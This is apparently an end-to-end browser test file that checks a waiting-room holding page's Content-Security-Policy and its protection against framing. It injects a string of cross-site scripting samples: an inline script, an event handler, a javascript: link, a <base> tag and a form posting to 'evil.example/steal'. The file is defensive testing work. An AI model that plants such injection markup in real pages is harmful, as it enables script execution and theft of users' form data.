import { generateKeyPairSync, randomBytes } from "node:crypto";
import type { BrowserContext, Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { DEFAULT_TEMPLATE } from "../../worker/http/pages/template.ts";
import { BrowserRoom, CHROMIUM_PATH, hasChromium } from "./browser.ts";

// Issue 6 in a real browser: the holding page's Content-Security-Policy does
// what it says in Chromium. The room runs the built-in template with hostile
// markup appended, as if an operator's template (or anything else) had let
// it in: inline script, an event handler, a javascript: link, a stylesheet,
// a <base>, an iframe, a form posting off-site. None of it may run or apply,
// while the page's own script (it carries the response's nonce) keeps polling
// and updating the figures live and lets the visitor in. Then: no other
// origin may frame the room.

/** One admission every 4 s: a visitor behind 4 newcomers waits about 15-20 s, several polls. */
const ADMIT_PER_MINUTE = 15;
const ADMISSION_TIMEOUT_MS = 60_000;
const SCENARIO_TIMEOUT_MS = 100_000;

/** Each part would leave a mark in `window.__xss` (or hide the page) if the browser let it act. */
const PAYLOAD = `
<style>#anteroom{display:none!important}</style>
<script>window.__xss = (window.__xss || []).concat("inline script");</script>
<img id="xss-img" src="/__anteroom/missing.png" onerror="window.__xss = (window.__xss || []).concat('onerror')">
<a id="xss-link" href="javascript:window.__xss=(window.__xss||[]).concat('javascript: URL')">link</a>
<base href="https://evil.example/">
<iframe id="xss-frame" srcdoc="<script>parent.__xss = (parent.__xss || []).concat('iframe')</script>"></iframe>
<form id="xss-form" action="https://evil.example/steal" method="post"><button id="xss-submit">go</button></form>
`;
const HOSTILE_TEMPLATE = DEFAULT_TEMPLATE.replace("</body>", `${PAYLOAD}</body>`);

const session = new BrowserRoom();
const room = () => session.room();

interface Visitor {
  readonly context: BrowserContext;
  readonly page: Page;
  /** Requests to the status endpoint (the page's polling). */
  polls(): number;
  /** What Chromium logged about Content-Security-Policy refusals. */
  refusals(): string[];
}

async function openVisitor(): Promise<Visitor> {
  const context = await session.newContext();
  const page = await context.newPage();
  let polls = 0;
  const refusals: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).pathname === "/__anteroom/status") polls += 1;
  });
  page.on("console", (message) => {
    if (message.text().includes("Content Security Policy")) refusals.push(message.text());
  });
  return { context, page, polls: () => polls, refusals: () => [...refusals] };
}

/** Cookie-less newcomers until `count` of them wait, so the next visitor waits behind them. */
async function occupyFront(count: number): Promise<void> {
  let queued = 0;
  for (let attempt = 0; queued < count; attempt++) {
    if (attempt > count + 2) throw new Error(`could not put ${count} newcomers in line`);
    const response = await fetch(`${room().url}/api/echo`, { headers: { accept: "application/json" } });
    await response.arrayBuffer();
    if (response.status === 429) queued += 1;
  }
}

async function figures(page: Page): Promise<{ ahead: number; progress: number }> {
  const [ahead, progress] = await Promise.all([
    page.locator("#anteroom-ahead").textContent({ timeout: 5_000 }),
    page.locator("#anteroom-bar").getAttribute("aria-valuenow", { timeout: 5_000 }),
  ]);
  return { ahead: Number(ahead), progress: Number(progress) };
}

function signingKey(): JsonWebKey {
  return generateKeyPairSync("ec", { namedCurve: "P-256" }).privateKey.export({ format: "jwk" });
}

if (!hasChromium) {
  console.warn(`test/e2e: SKIPPING the browser security tests: no Chromium at ${CHROMIUM_PATH}`);
}

describe.skipIf(!hasChromium)(
  hasChromium
    ? "holding page security in headless Chromium"
    : `holding page security in headless Chromium: SKIPPED, no browser at ${CHROMIUM_PATH} (apt-get install chromium, or set CHROMIUM_PATH)`,
  () => {
    session.use(() => ({
      ROOM: `e2e-security-${Date.now()}`,
      // The test fills the line with cookie-less requests on purpose; the cookie check has its own tests.
      COOKIE_CHECK: "off",
      ADMIT_PER_MINUTE: String(ADMIT_PER_MINUTE),
      TICKET_SECRET: randomBytes(32).toString("base64url"),
      PASS_SIGNING_KEYS: JSON.stringify([{ ...signingKey(), kid: "e2e-security" }]),
      HOLDING_PAGE_TEMPLATE: HOSTILE_TEMPLATE,
    }));

    it(
      "injected markup stays inert under the CSP, while the page's own script polls, updates live and lets the visitor in",
      async () => {
        await occupyFront(4);
        const { context, page, polls, refusals } = await openVisitor();
        const response = await page.goto(`${room().url}/register`);
        if (!response) throw new Error("no response for the page");
        expect(response.status()).toBe(200);
        const first = await figures(page);
        expect(first.ahead).toBeGreaterThanOrEqual(2);

        // The header, and the nonce it allows is the one the page's own tags carry.
        const headers = response.headers();
        const csp = headers["content-security-policy"] ?? "";
        const nonce = /script-src 'nonce-([A-Za-z0-9_-]+)'/.exec(csp)?.[1];
        expect(nonce, csp).toBeDefined();
        expect(csp).toContain(`style-src 'nonce-${nonce}'`);
        expect(csp).toContain("frame-ancestors 'none'");
        expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
        expect(headers["x-content-type-options"]).toBe("nosniff");
        const html = await response.text();
        expect(html).toContain(`<script nonce="${nonce}">`);
        expect(html).toContain(`<style nonce="${nonce}">`);

        // The payload is in the document...
        expect(await page.locator("#xss-img").count()).toBe(1);
        expect(await page.locator("#xss-frame").count()).toBe(1);
        // ...and inert: its stylesheet does not apply (the page's own, nonced one does), nothing of it ran.
        await expect(page.locator("#anteroom").isVisible()).resolves.toBe(true);
        const barDisplay = await page.locator("#anteroom-bar span").evaluate((el) => getComputedStyle(el).display);
        expect(barDisplay, "the page's own stylesheet applies").toBe("block");
        expect(await page.evaluate(() => document.baseURI)).toBe(`${room().url}/register`);
        expect(await page.evaluate(() => (window as unknown as { __xss?: string[] }).__xss)).toBeUndefined();
        // Chromium's own account: each kind of payload was blocked by the CSP (the srcdoc frame inherits the
        // policy, so its script is refused as a second inline script). Matched loosely: the wording changes.
        const refused = refusals().join("\n");
        for (const kind of [/inline script/i, /inline event handler/i, /inline style/i, /base URI.*base-uri 'none'/i]) {
          expect(refused, `Chromium blocked nothing matching ${kind}`).toMatch(kind);
        }
        expect(refused.match(/inline script/gi)?.length, "the page's payload script and the frame's").toBe(2);

        // The page's own script is not blocked: it polls and moves the figures without a reload.
        await page.waitForFunction(
          (before) =>
            Number(document.getElementById("anteroom-ahead")?.textContent) < before.ahead &&
            Number(document.getElementById("anteroom-bar")?.getAttribute("aria-valuenow")) > before.progress,
          first,
          { timeout: 30_000 },
        );
        expect(polls()).toBeGreaterThanOrEqual(1);
        expect(refusals().join("\n"), "the status poll is same-origin, allowed by connect-src 'self'").not.toMatch(
          /connect to|connect-src/,
        );

        // And it lets the visitor in by itself.
        await page
          .getByRole("heading", { name: "Register", exact: true })
          .waitFor({ state: "visible", timeout: ADMISSION_TIMEOUT_MS });
        expect(page.url()).toBe(`${room().url}/register`);
        const cookies = await context.cookies(room().url);
        expect(cookies.map((cookie) => cookie.name)).toEqual(["anteroom_pass"]);
        expect(await page.evaluate(() => (window as unknown as { __xss?: string[] }).__xss)).toBeUndefined();
      },
      SCENARIO_TIMEOUT_MS,
    );

    it(
      "a javascript: link and a form posting off-site do nothing when clicked",
      async () => {
        await occupyFront(2);
        const { page, refusals } = await openVisitor();
        await page.goto(`${room().url}/register`);
        await page.locator("#xss-link").click();
        await expect.poll(() => refusals().join("\n"), { timeout: 5_000 }).toMatch(/JavaScript URL/i);
        await page.locator("#xss-submit").click();
        await expect.poll(() => refusals().join("\n"), { timeout: 5_000 }).toMatch(/form data.*form-action 'self'/i);
        expect(page.url(), "no navigation off-site").toBe(`${room().url}/register`);
        const marks = await page.evaluate(() => (window as unknown as { __xss?: string[] }).__xss).catch(() => null);
        expect(marks ?? undefined).toBeUndefined();
      },
      SCENARIO_TIMEOUT_MS,
    );

    it(
      "another origin cannot frame the room (frame-ancestors 'none')",
      async () => {
        // Somebody waits, so the framed request gets the holding page (the origin's own pages are its business).
        await occupyFront(2);
        const { page } = await openVisitor();
        // The demo origin is another origin (another port): a stand-in for a site framing the room.
        await page.goto(room().originUrl);
        const framedResponse = page.waitForResponse((r) => r.url() === `${room().url}/register`);
        await page.evaluate((url) => {
          const frame = document.createElement("iframe");
          frame.src = url;
          document.body.append(frame);
        }, `${room().url}/register`);
        const answer = await framedResponse;
        expect(answer.status()).toBe(200);
        expect(answer.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
        // The browser got the holding page but shows none of it inside the other site's page.
        await page.waitForTimeout(1_000);
        expect(page.frames().length).toBe(2);
        for (const frame of page.frames()) {
          expect(await frame.locator("#anteroom").count(), `frame ${frame.url()} shows the room`).toBe(0);
        }
      },
      SCENARIO_TIMEOUT_MS,
    );
  },
);
